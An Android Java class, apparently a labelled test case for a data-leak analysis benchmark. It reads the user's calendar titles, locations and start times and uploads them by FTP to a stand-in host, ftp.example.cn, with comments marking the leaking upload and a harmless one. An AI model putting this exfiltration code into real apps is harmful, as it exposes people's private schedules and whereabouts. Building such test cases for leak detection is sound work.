package stealers;

import android.app.IntentService;
import android.content.Intent;
import android.database.Cursor;
import android.provider.CalendarContract;

import org.apache.commons.net.ftp.*;

import java.io.*;

/** Appointments in a file of the app, fetched to a server of files. */
public class CalendarFtp extends IntentService {
    public CalendarFtp() {
        super("");
    }

    @Override
    protected void onHandleIntent(Intent intent) {
        try {
            OutputStreamWriter w = new OutputStreamWriter(openFileOutput("cal.txt", MODE_PRIVATE));
            Cursor c =
                    getContentResolver()
                            .query(CalendarContract.Events.CONTENT_URI, new String[] {"title", "eventLocation", "dtstart"}, null, null, null);
            for (c.moveToFirst(); !c.isAfterLast(); c.moveToNext())
                w.write(c.getString(0) + "\t" + c.getString(1) + "\t" + c.getLong(2) + "\r\n");
            w.close();
            put("cal.txt");
            hello();
        } catch (IOException e) {
            e.printStackTrace();
        }
    }

    private void put(String name) throws IOException {
        FTPClient ftp = new FTPClient();
        ftp.connect("ftp.example.cn");
        ftp.login("u", "p");
        ftp.setFileType(FTP.BINARY_FILE_TYPE);
        ftp.enterLocalPassiveMode();
        InputStream in = openFileInput(name);
        ftp.storeFile("/in/" + name, in); // leak
        in.close();
        ftp.disconnect();
    }

    private void hello() throws IOException {
        FTPClient ftp = new FTPClient();
        ftp.connect("ftp.example.cn");
        ftp.storeFile("/in/hello", new ByteArrayInputStream("hello".getBytes())); // no leak
        ftp.logout();
    }
}
